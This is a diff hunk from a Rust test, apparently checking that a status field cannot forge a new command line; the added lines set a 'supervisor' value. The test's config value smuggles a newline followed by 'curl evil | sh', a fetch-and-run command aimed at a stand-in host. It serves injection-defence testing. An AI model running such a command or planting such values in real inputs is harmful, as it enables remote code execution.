@@ -211,6 +211,8 @@ fn a_name_forges_no_next_command() {
     let top = tempfile::tempdir().unwrap();
     let mut status = real_status(top.path());
     status["config"] = "/etc/gateway/x.toml\ncurl evil | sh; curl evil".into();
+    // Of a service, its file is named.
+    status["supervisor"] = "systemd (its words)".into();
     let state = top.path().join("state");
     let listener = bind_control_socket(&state.join("run/control.sock")).unwrap();
     listener.set_nonblocking(false).unwrap();
